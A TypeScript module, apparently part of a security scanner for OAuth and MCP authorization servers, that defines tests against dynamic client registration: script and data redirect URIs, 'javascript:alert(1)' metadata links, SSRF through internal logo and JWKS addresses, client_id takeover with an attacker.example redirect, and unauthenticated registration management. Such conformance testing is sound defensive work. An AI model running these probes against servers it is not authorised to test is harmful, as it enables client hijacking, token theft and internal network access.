import { type Attack, each } from '../attack'
import { NotOffered } from '../errors'
import { type Json, textOf } from '../json'
import { gotTokens, type Target } from '../target'

const isRegistered = ({ status, json }: { status: number; json: Json }) =>
  (status === 200 || status === 201) && textOf(json, 'client_id') !== undefined

/** Registers a client whose redirect URI should be refused. */
const refusedUris = (
  id: string,
  gets: string,
  reference: string,
  uris: readonly string[],
  severity: Attack['severity'],
): Attack => ({
  id,
  gets,
  reference,
  severity,
  decides: 'such a redirect URI is registered',
  run: (target) =>
    each(uris, async (uri) =>
      isRegistered(await target.register({ redirect_uris: [uri] }))
        ? `${uri.slice(0, 40)} was registered`
        : undefined,
    ),
})

/** The server calls an address inside its own network, which a self-registered client named. */
async function calls(
  target: Target,
  changes: (origin: string) => Json,
  use: (answer: Json) => Promise<void>,
) {
  const listener = target.internal()
  const origin = listener.base
  const before = listener.received()
  const answer = await target.register(changes(origin))
  if (isRegistered(answer)) await use(answer.json)
  return listener.received() > before
}

export const registrationAttacks: readonly Attack[] = [
  refusedUris(
    'registration-script-uri',
    'a script in the server’s origin, at the end of a login',
    'RFC 6749 §10.15, RFC 9700 §4.11',
    ['javascript:alert(1)//', 'JavaScript:alert(1)', 'data:text/html,x', 'vbscript:x'],
    'high',
  ),
  refusedUris(
    'registration-fragment-uri',
    'codes in fragments, which survive redirects',
    'RFC 6749 §3.1.2',
    ['https://app.example/callback#fragment'],
    'low',
  ),
  refusedUris(
    'registration-clear-uri',
    'codes from the network',
    'OAuth 2.1 §1.5, MCP Authorization',
    ['http://app.example/callback'],
    'medium',
  ),
  {
    id: 'registration-script-links',
    gets: 'a script behind a link or a picture of the consent page',
    reference: 'RFC 7591 §5',
    severity: 'medium',
    decides: 'a link of the client that is a script is kept',
    run: (target) =>
      each(['client_uri', 'logo_uri', 'policy_uri', 'tos_uri'], async (name) => {
        const answer = await target.register({ [name]: 'javascript:alert(1)//' })
        return isRegistered(answer) && answer.json[name] !== undefined ? `${name} may be a script` : undefined
      }),
  },
  {
    id: 'registration-logo',
    gets: 'requests inside the server’s network (SSRF)',
    reference: 'RFC 7591 §5, RFC 9700 §4.11',
    severity: 'high',
    decides: 'a logo at an internal address is fetched when the client is registered or shown',
    run: async (target) => {
      const called = await calls(
        target,
        (origin) => ({ logo_uri: `${origin}/logo.png` }),
        async (json) => {
          await target.visit({
            id: textOf(json, 'client_id') ?? '',
            redirectUri: target.settings.redirectUri,
          })
        },
      )
      return called ? 'the logo was fetched from an internal address' : undefined
    },
  },
  {
    id: 'registration-jwks',
    gets: 'requests inside the server’s network (SSRF)',
    reference: 'RFC 7591 §5',
    severity: 'high',
    decides: 'keys at an internal address are fetched when the client authenticates',
    run: async (target) => {
      const methods = target.metadata.token_endpoint_auth_methods_supported
      if (!Array.isArray(methods) || !methods.includes('private_key_jwt'))
        throw new NotOffered('private_key_jwt is not supported')
      const algorithm = { token_endpoint_auth_signing_alg: 'ES256' }
      const changes = (origin: string) => ({
        token_endpoint_auth_method: 'private_key_jwt',
        jwks_uri: `${origin}/keys`,
        ...algorithm,
      })
      const called = await calls(target, changes, async (json) => {
        await target.http.form(target.endpoint('token'), {
          grant_type: 'authorization_code',
          code: 'x',
          client_assertion_type: 'urn:ietf:params:oauth:client-assertion-type:jwt-bearer',
          client_assertion: assertion(textOf(json, 'client_id') ?? '', target),
        })
      })
      return called ? 'keys were fetched from an internal address' : undefined
    },
  },
  {
    id: 'registration-overlong',
    gets: 'a database that is full, and a consent page that nobody can read',
    reference: 'RFC 7591 §5',
    severity: 'low',
    decides: 'a name of 100,000 characters, or 2,000 redirect URIs, are kept',
    run: (target) =>
      each(
        [
          { client_name: 'x'.repeat(100_000) },
          { redirect_uris: Array.from({ length: 2_000 }, (_, at) => `https://app.example/${at}`) },
        ],
        async (changes) => {
          const answer = await target.register(changes)
          const kept = JSON.stringify(answer.json).length > 20_000
          return isRegistered(answer) && kept ? `${Object.keys(changes)} may be of any length` : undefined
        },
      ),
  },
  {
    id: 'registration-takeover',
    gets: 'the name and the consents of another client',
    reference: 'RFC 7591 §3.2.1',
    severity: 'critical',
    decides: 'a registration chooses its client_id, and so that of another client',
    run: async (target) => {
      const { id } = await target.client()
      const { json } = await target.register({
        client_id: id,
        redirect_uris: ['https://attacker.example/callback'],
      })
      return textOf(json, 'client_id') === id ? 'a client was registered over another one' : undefined
    },
  },
  {
    id: 'registration-machine',
    gets: 'tokens without any user, by registering',
    reference: 'RFC 6749 §4.4, RFC 7591 §5',
    severity: 'high',
    decides: 'a self-registered client gets tokens with its own credentials',
    run: async (target) => {
      const changes = {
        grant_types: ['client_credentials'],
        response_types: [],
        token_endpoint_auth_method: 'client_secret_post',
      }
      const { json, status } = await target.register(changes)
      if (!isRegistered({ json, status })) return undefined
      const form = {
        grant_type: 'client_credentials',
        client_id: textOf(json, 'client_id'),
        client_secret: textOf(json, 'client_secret'),
        resource: target.settings.resource,
      }
      const answer = await target.http.form(target.endpoint('token'), form)
      return gotTokens(answer) ? 'tokens for a client that anybody may register' : undefined
    },
  },
  {
    id: 'registration-management',
    gets: 'the registration of another client, to send its users to himself',
    reference: 'RFC 7592 §2',
    severity: 'critical',
    decides: 'a registration is read or changed without its token, or with that of another client',
    run: async (target) => {
      const [victim, thief] = [(await target.register()).json, (await target.register()).json]
      const url = textOf(victim, 'registration_client_uri')
      if (url === undefined) throw new NotOffered('registrations cannot be managed')
      return each(['', 'made-up', textOf(thief, 'registration_access_token') ?? 'none'], async (token) => {
        const headers = token ? { authorization: `Bearer ${token}` } : {}
        const answer = await target.http.send(url, { headers })
        return isRegistered(answer) ? 'another client’s registration can be read' : undefined
      })
    },
  },
]

/** An assertion whose signature is not good: it needs no more to have its keys fetched. */
function assertion(id: string, target: Target): string {
  const encode = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url')
  const now = Math.floor(Date.now() / 1_000)
  const claims = { iss: id, sub: id, aud: target.issuer, jti: String(now), iat: now, exp: now + 60 }
  return `${encode({ alg: 'ES256', kid: 'x' })}.${encode(claims)}.${Buffer.alloc(64, 1).toString('base64url')}`
}
